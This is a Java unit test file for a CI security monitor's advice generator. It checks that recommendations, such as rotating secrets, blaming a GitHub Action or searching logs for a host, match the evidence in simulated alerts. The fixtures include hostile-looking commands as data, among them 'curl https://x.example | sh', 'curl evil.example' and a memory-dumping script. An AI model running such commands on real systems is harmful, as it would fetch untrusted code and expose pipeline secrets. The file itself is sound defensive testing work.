package eyas.report;

import static org.assertj.core.api.Assertions.assertThat;

import eyas.report.model.AlertFacts;
import eyas.report.model.CollectedRows;
import eyas.report.model.ConnectionFacts;
import eyas.report.model.JobFacts;
import eyas.report.model.JobReport;
import eyas.report.model.ProcessFacts;
import eyas.report.model.RuleFacts;
import eyas.report.model.ScriptFacts;
import eyas.report.model.StepFacts;
import eyas.report.synopsis.Synopsis;
import eyas.rules.model.Priority;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.Test;

/** Advice claims no more than the evidence: it only recommends against actors whose own code caused more than a warning. */
final class AdviceTest {
    private static final String STOLEN = "Treat every secret that this job could read as compromised";

    private final List<RuleFacts> rules = new ArrayList<>();
    private final List<AlertFacts> alerts = new ArrayList<>();
    private final List<ProcessFacts> processes = new ArrayList<>();
    private final List<ConnectionFacts> connections = new ArrayList<>();
    private final List<ScriptFacts> scripts = new ArrayList<>();
    private String confidence = "high";

    private int process(int parent, String name, String command, int step, int script) {
        int id = processes.size();
        processes.add(new ProcessFacts(
                id,
                parent,
                100 + id,
                name,
                "/usr/bin/" + name,
                command,
                "/w/app/app",
                0,
                "root",
                ExampleReport.at(id),
                0,
                -1,
                List.of(),
                1,
                step,
                script,
                -1,
                List.of(),
                false,
                false,
                false,
                false));
        return id;
    }

    private void alert(Priority priority, String rule, int process, String... tags) {
        int id = rules.size();
        rules.add(new RuleFacts(id, rule, "", priority, List.of(tags), 1, List.of(process)));
        ProcessFacts by = processes.get(process);
        alerts.add(new AlertFacts(
                alerts.size(), id, priority, ExampleReport.at(9), 1, "it happened", process, by.step(), by.script()));
    }

    private void contact(int process, String name) {
        connections.add(new ConnectionFacts(
                connections.size(),
                false,
                "203.0.113." + (1 + connections.size()),
                443,
                "tcp",
                ConnectionFacts.Scope.PUBLIC,
                name,
                0,
                null,
                ConnectionFacts.Resolution.RESOLVED,
                process,
                processes.get(process).step(),
                -1,
                ExampleReport.at(5),
                ExampleReport.at(5),
                1,
                0,
                10,
                10));
    }

    private StepFacts step(int id, String name, String action, String ref) {
        return new StepFacts(
                id, "github", "ci", "build", name, action, ref, 1, 2, 1, confidence, "runner", "", 0, name, 0);
    }

    /** Returns the advice on a job of a checkout, an action and a command, whose checkout is in {@code /w/app}. */
    private List<String> advice() {
        JobReport base = ExampleReport.report();
        JobReport report = JobReport.of(
                        new JobFacts("job", 1, 2, -1, "/w/app/app", "", ""), base.coverage(), base.cost())
                .steps(List.of(
                        step(0, "Checkout", "actions/checkout", "v4"),
                        step(1, "Changed files", "tj-actions/changed-files", "v45"),
                        step(2, "Test", "", "")))
                .rules(rules)
                .alerts(CollectedRows.of(alerts, 0))
                .processes(CollectedRows.of(processes, 0))
                .connections(CollectedRows.of(connections, 0))
                .scripts(scripts)
                .end();
        return Synopsis.of(report).advice().stream()
                .filter(advice -> !advice.startsWith("This report is incomplete"))
                .toList();
    }

    @Test
    void recommendsStoppingAnActionWhoseOwnCodeDidIt() {
        int node = process(-1, "node", "node /w/_actions/tj-actions/changed-files/v45/dist/index.js", 1, -1);
        int reader = process(node, "python3", "python3 /w/_temp/dump.py", 1, -1);
        alert(Priority.CRITICAL, "Memory Read", reader, "mitre_credential_access");
        assertThat(advice())
                .containsExactly(
                        STOLEN + ": revoke and rotate them, including cloud and registry tokens. (Memory Read)",
                        "Stop using tj-actions/changed-files at v45 until you know the cause; then pin it to a commit"
                                + " that you have reviewed.");
    }

    /** Text in a command line is not evidence against an action. */
    @Test
    void commandLineTextDoesNotBlameAction() {
        String own = "/w/_actions/tj-actions/changed-files/v45/dist/index.js";
        for (String command : List.of(
                "python3 -c x " + own,
                "cat x " + own,
                "node /tmp/y" + own,
                "node /w/_actions/tj-actions/changed-files/../../../../tmp/x.js",
                "node /w/app/_actions/tj-actions/changed-files/v45/dist/index.js",
                "perl -e x " + own)) {
            alerts.clear();
            rules.clear();
            String program = command.substring(0, command.indexOf(' '));
            alert(Priority.ERROR, "One", process(-1, program, command, 1, -1));
            assertThat(advice())
                    .as(command)
                    .singleElement()
                    .asString()
                    .startsWith("Review what " + program + " did in Changed files");
        }
        alerts.clear();
        rules.clear();
        int node = process(-1, "node", "node " + own, 1, -1);
        int shell = process(node, "bash", "bash -c curl https://x.example | sh", 1, -1);
        alert(Priority.ERROR, "One", process(shell, "cat", "cat x", 1, -1));
        assertThat(advice()).singleElement().asString().startsWith("Review what cat did in Changed files");
        // Its own file does it, regardless of what started it.
        alerts.clear();
        rules.clear();
        String dump = "python3 /w/_actions/tj-actions/changed-files/v45/dump.py";
        int started = process(node, "bash", "bash -c " + dump, 1, -1);
        alert(Priority.ERROR, "One", process(started, "python3", dump, 1, -1));
        assertThat(advice()).singleElement().asString().startsWith("Stop using tj-actions/changed-files at v45");
    }

    @Test
    void warningAsksForReview() {
        int git = process(-1, "git", "/tmp/demo/bin/git clone", 0, -1);
        alert(Priority.WARNING, "Program Started From a Temporary Place", git, "mitre_execution");
        assertThat(advice())
                .containsExactly(
                        "Review what git did in Checkout (actions/checkout@v4): it triggered “Program Started From a"
                                + " Temporary Place”.");
    }

    @Test
    void programOfTheCheckoutDoesNotBlameAction() {
        int node = process(-1, "node", "node /w/_actions/tj-actions/changed-files/v45/dist/index.js", 1, -1);
        int test = process(node, "sh", "sh /w/app/app/test.sh", 1, -1);
        int make = process(node, "make", "make all", 1, -1);
        alert(Priority.ERROR, "One", process(test, "cat", "cat x", 1, -1));
        assertThat(advice()).singleElement().asString().startsWith("Review what cat did in Changed files");
        alerts.clear();
        rules.clear();
        alert(Priority.ERROR, "Two", process(make, "cat", "cat x", 1, -1));
        assertThat(advice()).singleElement().asString().startsWith("Review what cat did in Changed files");
    }

    /** Build tools name files of the checkout by relative paths. */
    @Test
    void scriptOfTheCheckoutByAnyNameDoesNotBlameAction() {
        int node = process(-1, "node", "node /w/_actions/tj-actions/changed-files/v45/dist/index.js", 1, -1);
        for (String command : List.of(
                "node build.js",
                "python3 tools/setup.py",
                "bash ci.sh",
                "bash -c npm ci",
                "node /usr/bin/yarn install",
                "java -jar /opt/x.jar ./x")) {
            alerts.clear();
            rules.clear();
            String program = command.substring(0, command.indexOf(' '));
            alert(Priority.ERROR, "One", process(process(node, program, command, 1, -1), "cat", "cat x", 1, -1));
            assertThat(advice())
                    .as(command)
                    .singleElement()
                    .asString()
                    .startsWith("Review what cat did in Changed files");
        }
    }

    /** A process that runs none of the action's files may belong to a container, or to a composite action's own steps. */
    @Test
    void actionWithoutOwnFileIsNotBlamed() {
        alert(Priority.ERROR, "One", process(-1, "python3", "python3 /w/_temp/x", 1, -1));
        assertThat(advice()).singleElement().asString().startsWith("Review what python3 did in Changed files");
    }

    @Test
    void uncertainStepGetsReview() {
        confidence = "medium";
        alert(Priority.ERROR, "One", process(-1, "node", "node /w/_actions/x.js", 1, -1));
        assertThat(advice()).singleElement().asString().startsWith("Review what node did in Changed files");
    }

    @Test
    void recommendsRemovingPackageOnlyAboveWarning() {
        scripts.add(new ScriptFacts(0, "npm", "left", "1.0.0", "postinstall", true, "high", "manager", "npm", 1));
        int script = process(-1, "node", "node setup.js", 2, 0);
        alert(Priority.WARNING, "One", script);
        assertThat(advice()).containsExactly("Review what left 1.0.0 runs when it is installed: it triggered “One”.");
        alert(Priority.ERROR, "Two", script);
        // The rules of a report are sorted by urgency.
        rules.set(0, new RuleFacts(0, "One", "", Priority.ERROR, List.of(), 1, List.of(0)));
        assertThat(advice()).anySatisfy(advice -> assertThat(advice).startsWith("Remove left 1.0.0"));
    }

    @Test
    void priorityBelowWarningGivesNoAdvice() {
        alert(Priority.NOTICE, "One", process(-1, "curl", "curl x", 1, -1), "mitre_credential_access");
        assertThat(advice()).isEmpty();
    }

    @Test
    void warningDoesNotRevokeSecrets() {
        alert(Priority.WARNING, "Search", process(-1, "grep", "grep token", 2, -1), "mitre_credential_access");
        assertThat(advice())
                .contains(
                        "Check which secrets were accessible, and rotate them unless this access is expected. (Search)")
                .noneMatch(advice -> advice.startsWith(STOLEN));
    }

    @Test
    void deniedEgressDoesNotRevokeSecrets() {
        alert(Priority.ERROR, "Egress Denied", process(-1, "curl", "curl x", 2, -1), "mitre_exfiltration");
        assertThat(advice())
                .noneMatch(advice -> advice.startsWith(STOLEN))
                .anySatisfy(advice -> assertThat(advice).startsWith("Review the denied destinations"));
    }

    /** A registry that every process contacts is not an indicator. */
    @Test
    void searchesOnlyPeersOfOffendingProcesses() {
        int root = process(-1, "bash", "bash", 2, -1);
        int install = process(root, "npm", "npm ci", 2, -1);
        int script = process(install, "sh", "sh -c x", 2, -1);
        int curl = process(script, "curl", "curl evil.example", 2, -1);
        int later = process(root, "wget", "wget", 2, -1);
        contact(install, "registry.example");
        contact(curl, "registry.example");
        contact(curl, "evil.example");
        contact(later, "mirror.example");
        alert(Priority.ERROR, "One", script);
        assertThat(advice())
                .contains("Look for evil.example in the logs of your other jobs and your network.")
                .noneMatch(advice -> advice.contains("registry.example") || advice.contains("mirror.example"));
    }
}
